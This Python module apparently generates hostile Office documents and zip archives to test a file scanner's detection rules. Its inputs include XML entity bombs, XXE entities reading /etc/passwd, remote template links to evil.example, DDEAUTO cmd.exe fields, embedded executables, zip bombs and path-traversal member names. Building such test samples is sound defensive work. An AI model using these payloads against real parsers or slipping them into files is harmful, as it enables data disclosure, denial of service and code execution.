"""Office files of the zip kind: bombs, entities, macros, programs, templates from elsewhere, and odd zips."""

from __future__ import annotations

import random
import re
import struct
import zipfile
from collections.abc import Iterator

from baosong.rules.findings import Kind
from baosong_local.samples import documents
from hostile_makers.case import Case, case, edited, good, members, replaced, zipped
from hostile_makers.old_office import package_object

DOCUMENT, RELS = "word/document.xml", "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
DTDS = {
    "billion laughs": f'<!DOCTYPE d [<!ENTITY l0 "哈哈">{LAUGHS}]>',
    "quadratic blow-up": f'<!DOCTYPE d [<!ENTITY l9 "{"哈" * 50_000}">]>',
    "external entity": '<!DOCTYPE d [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
    "entity from the network": '<!DOCTYPE d [<!ENTITY l9 SYSTEM "http://192.0.2.1/x">]>',
    "external DTD": '<!DOCTYPE d SYSTEM "http://192.0.2.1/x.dtd" [<!ENTITY l9 "x">]>',
    "entity after a long comment": f'<!--{"空" * 200_000}--><!DOCTYPE d [<!ENTITY l9 "x">]>',
    "parameter entity": '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p; <!ENTITY l9 "x">]>',
}
REMOTE = ["http://192.0.2.1/t.dotm", "https://evil.example/t.dotx", "\\\\192.0.2.1\\t.dotm", "file://192.0.2.1/t.dotm"]
LOADED = ["attachedTemplate", "frame", "subDocument", "oleObject", "aFChunk", "control"]


def packages() -> Iterator[Case]:
    """Yield all cases."""
    yield from _entities()
    yield from _acting()
    yield from _carrying()
    yield from _deep()
    yield from _bombs()
    yield from _zips()
    yield from _sheets()
    yield from _disguised()


def _with_dtd(what: str, member: str, dtd: str, code: str = "utf-8") -> bytes:
    xml = members(good(what))[member].decode()
    body = re.sub(r"^<\?xml[^>]*\?>\s*", "", xml)
    body = body.replace("</w:p>", "<w:r><w:t>&l9;</w:t></w:r></w:p>", 1)
    return replaced(what, {member: f'<?xml version="1.0" encoding="{code}"?>{dtd}{body}'.encode(code)})


def _entities() -> Iterator[Case]:
    said = ("file.dtd", "file.unreadable")
    for title, dtd in DTDS.items():
        yield case(f"docx {title}", "总结.docx", Kind.REPORT, lambda d=dtd: _with_dtd("docx", DOCUMENT, d), *said)
        yield case(f"press {title}", "报道.docx", Kind.PRESS, lambda d=dtd: _with_dtd("press", DOCUMENT, d), *said)
    for part in ("word/styles.xml", "docProps/core.xml", "docProps/app.xml", "word/settings.xml", RELS):
        data = lambda p=part: _with_dtd("docx", p, DTDS["billion laughs"])  # noqa: E731
        yield case(f"docx entities in {part}", "总结.docx", Kind.REPORT, data, *said)
    utf16 = lambda: _with_dtd("docx", "word/settings.xml", DTDS["external entity"], "utf-16")  # noqa: E731
    yield case("docx entities in UTF-16", "总结.docx", Kind.REPORT, utf16, *said)


def _related(kind: str, target: str) -> bytes:
    relation = f'<Relationship Id="rX" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return edited("docx", RELS, b"</Relationships>", relation.encode())


def _acting() -> Iterator[Case]:
    for target in REMOTE:
        data = lambda t=target: _related("attachedTemplate", t)  # noqa: E731
        yield case(f"template {target}", "总结.docx", Kind.REPORT, data, "file.remote_content")
    for kind in LOADED[1:]:
        data = lambda k=kind: _related(k, "http://192.0.2.1/x")  # noqa: E731
        yield case(f"{kind} from elsewhere", "总结.docx", Kind.REPORT, data, "file.remote_content")
    for name in ("word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/vbaData.xml"):
        data = lambda n=name: replaced("docx", {n: b"\xd0\xcf\x11\xe0" + bytes(600)})  # noqa: E731
        for suffix in ("docx", "docm"):
            yield case(f"macros {name} as {suffix}", f"总结.{suffix}", Kind.REPORT, data, "file.macros")
    for code in ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", "DDE excel x"):
        field = f'<w:r><w:instrText xml:space="preserve"> {code} </w:instrText></w:r></w:p>'.encode()
        data = lambda f=field: edited("docx", DOCUMENT, b"</w:p>", f)  # noqa: E731
        yield case(f"field {code[:7]}", "总结.docx", Kind.REPORT, data, "file.active_content")


def _carrying() -> Iterator[Case]:
    program = b"MZ\x90\0" + bytes(60) + b"This program cannot be run in DOS mode" + bytes(900)
    for title, part in {
        "bare program": program,
        "Linux program": b"\x7fELF" + bytes(900),
        "packed program": package_object("请双击.exe", program),
        "packed script": package_object("x.js", b"WScript.Shell"),
        "packed link": package_object("x.lnk", b"L\0\0\0"),
        "program under a harmless name": package_object("x.txt", program),
    }.items():
        data = lambda p=part: replaced("docx", {"word/embeddings/oleObject1.bin": p})  # noqa: E731
        yield case(f"docx with a {title}", "总结.docx", Kind.REPORT, data, "file.program")
    text = lambda: replaced("docx", {"word/embeddings/oleObject1.bin": package_object("a.txt", b"abc")})  # noqa: E731
    yield case("docx with an attachment", "总结.docx", Kind.REPORT, text, "file.attachment")


def _deep() -> Iterator[Case]:
    head, tail = b'<w:document xmlns:w="x"><w:body>', b"</w:body></w:document>"
    bodies = {
        "nested 100,000 deep": b"<w:p>" * 100_000 + b"</w:p>" * 100_000,
        "a million empty tags": b"<w:p/>" * 1_000_000,
        "30 MB of one text": b"<w:p><w:r><w:t>" + b"x" * (30 << 20) + b"</w:t></w:r></w:p>",
        "an attribute of 20 MB": b'<w:p a="' + b"y" * (20 << 20) + b'"/>',
        "100,000 attributes": b"<w:p " + b" ".join(b'a%d=""' % i for i in range(100_000)) + b"/>",
        "tags that never close": b"<" * 5_000_000,
        "angle brackets without end": b"<w:t" * 1_000_000,
        "invalid UTF-8": b"<w:p>\xff\xfe\xc0\x80</w:p>",
        "control characters": b"<w:p><w:t>\x00\x01\x02</w:t></w:p>",
    }
    for title, body in bodies.items():
        data = lambda b=body: replaced("docx", {DOCUMENT: head + b + tail})  # noqa: E731
        yield case(f"docx {title}", "总结.docx", Kind.REPORT, data)
    for name in ("[Content_Types].xml", "_rels/.rels", RELS, DOCUMENT):
        for title, part in {"empty": b"", "cut": b"<a><b", "of noise": bytes(range(256)) * 4}.items():
            data = lambda n=name, p=part: replaced("docx", {n: p})  # noqa: E731
            yield case(f"docx with {name} {title}", "总结.docx", Kind.REPORT, data)
    loop = b'<Relationship Id="rId1" Type="' + OFFICE.encode() + b'/officeDocument" Target="_rels/.rels"/>'
    loops = lambda: edited("docx", "_rels/.rels", b"<Relationship ", loop + b"<Relationship ")  # noqa: E731
    yield case("docx whose relations go in a circle", "总结.docx", Kind.REPORT, loops)


def _claiming(data: bytes, at: int, form: str, value: int) -> bytes:
    """Return a zip whose directory says something else of each member."""
    out = bytearray(data)
    for start in (m.start() for m in re.finditer(b"PK\x01\x02", data)):
        struct.pack_into(form, out, start + at, value)
    return bytes(out)


def _bombs() -> Iterator[Case]:
    for kind, name in ((Kind.REPORT, "总结.docx"), (Kind.PRESS, "报道.docx"), (None, "附件.docx")):
        yield case(f"300 MB of zeros, {kind}", name, kind, lambda: zipped({DOCUMENT: bytes(300 << 20)}), "file.bomb")
    crowd = lambda: zipped({f"word/media/{i}.png": b"" for i in range(10_001)})  # noqa: E731
    yield case("10,001 members", "总结.docx", Kind.REPORT, crowd, "file.bomb")
    total = lambda: _claiming(good("docx"), 24, "<L", 0xFFFF_FFF0)  # noqa: E731
    yield case("members that claim 4 GB", "总结.docx", Kind.REPORT, total, "file.bomb")
    modest = lambda: _claiming(zipped({DOCUMENT: bytes(40 << 20)}), 24, "<L", 1000)  # noqa: E731
    yield case("40 MB that claim 1 KB", "总结.docx", Kind.REPORT, modest, "file.unreadable")
    nothing = lambda: _claiming(good("docx"), 24, "<L", 0)  # noqa: E731
    yield case("members that claim nothing", "总结.docx", Kind.REPORT, nothing, "file.unreadable")
    yield case("120 MB of words", "总结.docx", Kind.REPORT, _heavy)
    inner = b"x" * 1000
    for _ in range(12):
        inner = zipped({"a.zip": inner})
    yield case("a zip in a zip in a zip", "全部.zip", Kind.REPORT, inner)
    overlap = lambda: _claiming(replaced("docx", {"a.xml": bytes(9999)}), 42, "<L", 0)  # noqa: E731
    yield case("members that overlap", "总结.docx", Kind.REPORT, overlap, "file.unreadable")


def _heavy() -> bytes:
    """Return a package of 120 MB of words, packed just not well enough to be a bomb."""
    rng = random.Random(1)
    piece = b"".join(rng.randbytes(8192).hex().encode() + b"x" * 1_000_000 for _ in range(30))
    headers = {f"word/header{i}.xml": f"<w:p>{i}科".encode() + piece for i in range(4)}
    return replaced("docx", headers)


def _zips() -> Iterator[Case]:
    names = {
        "a path upwards": "../../../etc/cron.d/x",
        "an absolute path": "/etc/passwd",
        "a drive letter": "C:\\windows\\system32\\x.dll",
        "a name of 255 bytes": "长" * 85,
        "a name of 60,000 bytes": "n" * 60_000,
        "a control character": "a\x1b[2J.docx",
        "markup": "<script>alert(1)</script>.docx",
        "a right-to-left mark": "gpj.\u202edocx",
    }
    for title, name in names.items():
        yield case(f"zip with {title}", "全部.zip", Kind.PHOTO, lambda n=name: zipped({n: b"x"}))
        rules = () if title.startswith(("a name of", "markup")) else ("file.member_name",)
        yield case(f"docx with {title}", "总结.docx", Kind.REPORT, lambda n=name: replaced("docx", {n: b"x"}), *rules)
    twins = lambda: zipped({"a.jpg": b"1", "A.JPG": b"2", "é.jpg": b"3", "e\u0301.jpg": b"4"})  # noqa: E731
    yield case("zip with twins", "全部.zip", None, twins)
    docx = good("docx")
    edits = {
        "encrypted members": lambda: _claiming(docx, 8, "<H", 1),
        "an unknown method": lambda: _claiming(docx, 10, "<H", 99),
        "wrong checksums": lambda: _claiming(docx, 16, "<L", 1),
        "offsets beyond the end": lambda: _claiming(docx, 42, "<L", 0x7FFF_FFFF),
        "names longer than the directory": lambda: _claiming(docx, 28, "<H", 0xFFFF),
        "junk before it": lambda: b"PK\x03\x04" + bytes(999) + docx,
        "junk behind it": lambda: docx + b"\xff" * 70_000,
        "only an end record": lambda: docx[docx.rfind(b"PK\x05\x06") :],
        "a directory of 4 GB": lambda: docx[:-10] + struct.pack("<L", 0xFFFF_FFFE) + docx[-6:],
    }
    for title, make in edits.items():
        yield case(f"docx with {title}", "总结.docx", Kind.REPORT, make)
    yield case("stored, not deflated", "总结.docx", Kind.REPORT, lambda: zipped(members(docx), zipfile.ZIP_STORED))


def _sheets() -> Iterator[Case]:
    kind, name, sheet = Kind.STATISTICS, "统计表.xlsx", "xl/worksheets/sheet1.xml"
    said = ("statistics.unreadable",)
    bomb = f"{DTDS['billion laughs']}<sst><si><t>&l9;</t></si></sst>".encode()
    yield case("xlsx billion laughs", name, kind, lambda: replaced("xlsx", {"xl/sharedStrings.xml": bomb}), *said)
    yield case("xlsx macros", "统计表.xlsm", kind, lambda: replaced("xlsx", {"xl/vbaProject.bin": b"x"}), "file.macros")
    program = lambda: replaced("xlsx", {"xl/embeddings/oleObject1.bin": b"MZ" + bytes(99)})  # noqa: E731
    yield case("xlsx with a program", name, kind, program, "file.program")
    cell = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    far = lambda: edited("xlsx", sheet, b"</sheetData>", cell)  # noqa: E731
    yield case("xlsx with one far cell", name, kind, far, "statistics.unreadable", "statistics.too_many_rows")
    yield case("xlsx locked", name, kind, lambda: documents.lock(good("xlsx")), "file.encrypted")
    yield case("xlsx of zeros", name, kind, lambda: zipped({"xl/workbook.xml": bytes(300 << 20)}), "file.bomb")
    link = b'<ddeLink xmlns="x" ddeService="cmd" ddeTopic="/c calc"/>'
    dde = lambda: replaced("xlsx", {"xl/externalLinks/externalLink1.xml": link})  # noqa: E731
    yield case("xlsx with DDE", name, kind, dde, "file.active_content")


def _disguised() -> Iterator[Case]:
    yield case("docx locked", "总结.docx", Kind.REPORT, lambda: documents.lock(good("docx")), "file.encrypted")
    yield case("docx locked, as PDF", "总结.pdf", Kind.REPORT, lambda: documents.lock(good("docx")), "file.encrypted")
    wrong = {"MZ": b"MZ\x90\0", "ELF": b"\x7fELF\2\1\1", "Mach-O": b"\xcf\xfa\xed\xfe", "class": b"\xca\xfe\xba\xbe"}
    for title, head in wrong.items():
        for kind, name in ((Kind.REPORT, "总结.docx"), (Kind.PHOTO, "照片.jpg"), (Kind.PRESS, "报道.pdf")):
            data = head + bytes(2000)
            yield case(f"{title} as {name}", name, kind, data, "file.type_mismatch", "file.unreadable", "file.format")
    yield case("xlsx as a report", "总结.docx", Kind.REPORT, lambda: good("xlsx"), "file.type_mismatch")
    yield case("docx as a photo", "照片.jpg", Kind.PHOTO, lambda: good("docx"), "file.type_mismatch")
    odt = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a>x</a>", "Basic/x.xml": b"<a/>"}
    yield case("odt with macros", "报道.odt", Kind.PRESS, lambda: zipped(odt), "file.format")
